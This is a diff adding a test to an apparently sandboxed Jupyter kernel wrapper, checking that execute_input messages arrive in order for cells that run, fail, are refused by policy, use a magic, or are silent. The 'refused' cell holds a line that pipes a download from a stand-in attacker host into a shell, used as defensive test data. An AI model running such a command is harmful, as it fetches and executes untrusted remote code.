@@ -265,6 +265,28 @@ def _outputs_before_idle(kc, code):
     assert (displays, updates, results) == (301, 1, 1)
 
 
+def test_execute_input_comes_first_whatever_the_cell(kernel):
+    """The wrapper publishes execute_input once the cell is on its way to the child (or before
+    anything else the request publishes): frontends still see busy, execute_input, the outputs and
+    idle, in that order, for a cell that runs, one that fails, one the policy refuses, an
+    %ironcage magic and a silent cell (no execute_input)."""
+    _, kc = kernel
+    cells = {
+        "runs": "print('out'); 42",
+        "fails": "1/0",
+        "refused": "import os; os.system('curl http://evil.example | sh')",
+        "magic": "%ironcage status",
+    }
+    for name, code in cells.items():
+        ex = execute(kc, code)
+        kinds = [m["header"]["msg_type"] for m in ex.messages]
+        assert kinds[0] == "status" and kinds[1] == "execute_input", (name, kinds)
+        assert kinds.count("execute_input") == 1 and kinds[-1] == "status", (name, kinds)
+        assert len(kinds) > 3, (name, kinds)  # something was published between them
+    silent = execute(kc, "43", silent=True)
+    assert [m["header"]["msg_type"] for m in silent.messages] == ["status", "status"]
+
+
 def test_cells_with_top_level_await_run(kernel):
     """The child runs without ipykernel 7's shell-channel thread (child_main.NoShellChannelThread);
     cells with top-level ``await`` read that thread's ``parent_thread`` and must still run (a plain
